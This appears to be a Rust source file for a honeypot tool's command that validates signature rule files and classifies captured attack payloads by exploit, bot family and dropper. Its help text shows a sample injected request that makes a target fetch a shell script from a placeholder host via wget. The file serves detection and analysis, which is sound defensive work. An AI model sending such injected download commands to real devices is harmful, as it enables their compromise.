//! `honeyxdp signatures`: what the rules say about the first payload of a connection, and whether a file of rules is right.

use std::{
    fs::File,
    io::{self, Read},
    path::{Path, PathBuf},
};

use anyhow::{Context as _, bail};
use clap::Subcommand;
use honeyxdp_signatures::{Classification, Dropper, Match, Region, Signatures, SignaturesError};
use serde_json::{Value, json};

use super::snapshot::print;

/// The longest file of rules, and the longest payload, bytes.
const LONGEST: u64 = 16 << 20;

/// Check and explain the signatures that classify payloads
///
/// A classification names the exploit in the first bytes of a connection, the family of bots that sent them, and the file
/// that they fetch. Signatures are a TOML file, described in docs/use/signatures-and-responder.md;
/// contrib/signatures.toml is built in.
#[derive(Debug, clap::Args)]
pub(super) struct Args {
    #[command(subcommand)]
    command: Command,
    /// Print the result as JSON
    #[arg(long, global = true)]
    json: bool,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Check a file of signatures
    ///
    /// Prints the number of signatures, or every error with its line and the signature's id. Exit status 1 if there is one.
    #[command(after_help = "Examples:\n  honeyxdp signatures check\n  honeyxdp signatures check my-signatures.toml")]
    Check {
        /// File of signatures. Default: the built-in signatures
        #[arg(value_name = "FILE")]
        file: Option<PathBuf>,
    },
    /// Classify a payload and show why
    ///
    /// Prints the exploit and the family with the matching signature, its place in the payload and its confidence, and the
    /// file that the payload fetches. The payload's text is escaped. A payload that nothing matches is no error.
    #[command(after_help = "Examples:\n  \
                            honeyxdp signatures explain payload.bin\n  \
                            printf 'GET /shell?wget+http://192.0.2.1/a.sh HTTP/1.1\\r\\n' | honeyxdp signatures explain -\n  \
                            honeyxdp signatures explain --signatures my-signatures.toml --json payload.bin")]
    Explain {
        /// File with the bytes of a payload; - is standard input
        #[arg(value_name = "FILE", default_value = "-")]
        payload: PathBuf,
        /// File of signatures. Default: the built-in signatures
        #[arg(long, value_name = "FILE", env = "HONEYXDP_SIGNATURES")]
        signatures: Option<PathBuf>,
    },
}

/// The rules of a file, or those that are built in.
pub(super) fn rules(file: Option<&Path>) -> anyhow::Result<Signatures> {
    let Some(path) = file else { return Ok(Signatures::built_in()?) };
    Signatures::parse(&text(path)?).with_context(|| format!("{} is wrong", shown(path)))
}

pub(super) fn signatures(args: &Args) -> anyhow::Result<()> {
    match &args.command {
        Command::Check { file } => check(file.as_deref(), args.json),
        Command::Explain { payload, signatures } => {
            let (signatures, bytes) = (rules(signatures.as_deref())?, bytes(payload)?);
            explain(&signatures.classify(&bytes), bytes.len(), args.json)
        }
    }
}

fn check(file: Option<&Path>, json: bool) -> anyhow::Result<()> {
    let name = file.map_or_else(|| "the built-in rules".to_owned(), shown);
    let checked = match file {
        None => Signatures::built_in(),
        Some(path) => Signatures::parse(&text(path)?),
    };
    let problems = checked.as_ref().err().map_or(&[][..], |SignaturesError { problems }| problems);
    if json {
        let errors: Vec<_> =
            problems.iter().map(|problem| json!({"line": problem.line, "message": problem.message})).collect();
        let (exploits, families) =
            checked.as_ref().map_or((0, 0), |rules| (rules.exploits().len(), rules.families().len()));
        print_json(&json!({
            "file": file.map(|path| path.display().to_string()), "ok": checked.is_ok(),
            "exploits": exploits, "families": families, "errors": errors,
        }))?;
    }
    match checked {
        Ok(_) if json => Ok(()),
        Ok(rules) => {
            let (exploits, families) = (rules.exploits().len(), rules.families().len());
            print(&format!("{name}: ok, {} rules: {exploits} of exploits, {families} of families", exploits + families))
        }
        Err(SignaturesError { problems }) => {
            if !json {
                problems.iter().for_each(|problem| eprintln!("{name}, {problem}"));
            }
            let s = if problems.len() == 1 { "" } else { "s" };
            bail!("{} error{s} in {name}", problems.len())
        }
    }
}

fn explain(label: &Classification<'_>, bytes: usize, json: bool) -> anyhow::Result<()> {
    let Classification { exploit, family, dropper } = label;
    if json {
        return print_json(&json!({
            "bytes": bytes,
            "exploit": exploit.as_ref().map(json_of),
            "family": family.as_ref().map(json_of),
            "dropper": dropper.as_ref().map(|Dropper { tool, host, port, path, file }| {
                json!({"tool": tool.name(), "host": host, "port": port, "path": path, "file": file})
            }),
        }));
    }
    print(&format!("payload  {bytes} bytes"))?;
    for (kind, found) in [("exploit", exploit), ("family", family)] {
        let Some(Match { signature: rule, regions }) = found else {
            print(&format!("{kind:<8} none"))?;
            continue;
        };
        print(&format!("{kind:<8} {}: {}", rule.name, readable(&rule.title)))?;
        print(&format!(
            "{:<8} by rule {} in {regions}, confidence {}: {}",
            "",
            rule.id,
            rule.confidence.name(),
            rule.confidence.meaning()
        ))?;
        print(&format!("{:<8} limits: {}", "", readable(&rule.caveat)))?;
    }
    let Some(Dropper { tool, host, port, path, file }) = dropper else {
        return print(&format!("{:<8} none", "dropper"));
    };
    let port = port.map(|port| format!(" port {port}")).unwrap_or_default();
    let (path, file) = (path.escape_debug(), file.escape_debug());
    print(&format!(
        "{:<8} {} from {}{port}, path \"{path}\", file \"{file}\"",
        "dropper",
        tool.name(),
        host.escape_debug()
    ))
}

fn json_of(Match { signature: rule, regions }: &Match<'_>) -> Value {
    json!({
        "name": rule.name, "rule": rule.id, "regions": regions.iter().map(Region::name).collect::<Vec<_>>(),
        "title": rule.title, "confidence": rule.confidence.name(), "source": rule.source, "caveat": rule.caveat,
    })
}

/// Prints JSON in ASCII: text of an attacker in it does nothing to a terminal.
pub(super) fn print_json(value: &Value) -> anyhow::Result<()> {
    let mut safe = String::new();
    for character in serde_json::to_string_pretty(value)?.chars() {
        // Line feeds are the layout: those in strings are escaped already.
        if character == '\n' || matches!(character, ' '..='~') {
            safe.push(character);
        } else {
            character.encode_utf16(&mut [0; 2]).iter().for_each(|unit| safe.push_str(&format!("\\u{unit:04x}")));
        }
    }
    print(&safe)
}

/// Text of a file of rules on one line, with its quotes as they are.
fn readable(text: &str) -> String {
    let mut safe = String::new();
    for character in text.chars() {
        match character {
            '\'' | '"' => safe.push(character),
            _ => safe.extend(character.escape_debug()),
        }
    }
    safe
}

/// A name of a file for a message.
pub(super) fn shown(path: &Path) -> String {
    path.display().to_string().escape_debug().to_string()
}

fn text(path: &Path) -> anyhow::Result<String> {
    String::from_utf8(bytes(path)?).with_context(|| format!("{} is no text", shown(path)))
}

/// Reads a file, or standard input, whole.
fn bytes(path: &Path) -> anyhow::Result<Vec<u8>> {
    let read = || -> anyhow::Result<Vec<u8>> {
        let input: Box<dyn Read> =
            if path == Path::new("-") { Box::new(io::stdin().lock()) } else { Box::new(File::open(path)?) };
        let mut bytes = Vec::new();
        input.take(LONGEST + 1).read_to_end(&mut bytes)?;
        if bytes.len() as u64 > LONGEST {
            bail!("it is longer than {} MiB", LONGEST >> 20);
        }
        Ok(bytes)
    };
    read().with_context(|| format!("cannot read {}", shown(path)))
}
